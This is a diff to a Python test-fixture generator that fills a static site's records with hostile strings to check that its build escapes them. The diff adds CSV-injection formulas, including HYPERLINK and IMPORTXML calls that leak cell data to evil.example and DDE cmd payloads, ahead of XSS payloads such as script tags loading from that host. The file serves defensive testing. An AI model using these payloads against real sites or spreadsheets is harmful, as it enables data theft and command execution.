@@ -3,9 +3,11 @@
 The strings follow the classes of the well-known XSS filter-evasion cheat sheets: plain and
 case-mangled script tags, event handlers, attribute and element break-outs, URL schemes in
 markup, entity and whitespace obfuscation, mutation XSS, SVG and MathML, CSS, meta refresh,
-base hijacking, unclosed raw-text elements, template syntax, bidi and zero-width tricks.
-Each is placed, as text, in every field of the site's records: the build must accept it and
-show it as text. Addresses that a browser would run or load from elsewhere (UNSAFE_LINKS) are
+base hijacking, unclosed raw-text elements, template syntax, bidi and zero-width tricks,
+and spreadsheet formulas (CSV injection, after OWASP): those come first, so that every field
+of the site starts with one. Each is placed, as text, in every field of the site's records:
+the build must accept it and show it as text, and the CSV files must not start a cell with
+a formula. Addresses that a browser would run or load from elsewhere (UNSAFE_LINKS) are
 a different matter: the build must refuse them.
 
 `python -m tests.hostile` rewrites tests/fixtures/hostile/ from this file.
@@ -23,7 +25,21 @@ ROOT = Path(__file__).resolve().parent.parent
 HOSTILE_SITE = ROOT / "tests" / "fixtures" / "hostile"
 EVIL = "evil.example"
 
+# Formulas a spreadsheet would run from a CSV cell: one opens each group of payloads below.
+FORMULAS: list[str] = [
+    f'=HYPERLINK("https://{EVIL}/?leak="&A1,"Fonte")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "=cmd|' /C calc'!A0",
+    f'=IMPORTXML(CONCAT("https://{EVIL}/?",A1),"//a")',
+    "+SUM(1,1)",
+    "=1+1",
+]
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")  # what OWASP says a cell must not start with
+
 PAYLOADS: list[str] = [
+    *FORMULAS,
     "<script>alert(1)</script>",
     "<script>window.__xss=1</script>",
     f"<script src=//{EVIL}/x.js></script>",
@@ -214,7 +230,8 @@ def write_site(root: Path) -> Path:
     for i in range(CHUNKS):
         (root / "partners" / f"partner-{i}.yaml").write_text(dump({
             "id": f"partner-{i}", "kind": "city", "name": text(i), "country": "IT",
-            "location": {"lat": 45.0 + i / 10, "lon": 9.0 + i / 10}, "description": text(i + 5),
+            "location": {"lat": 45.0 + i / 10, "lon": 9.0 + i / 10},
+            "description": {lang: "\t" + value for lang, value in text(i + 5).items()},
         }), encoding="utf-8")
         g = joined(groups[i])
         facts = {
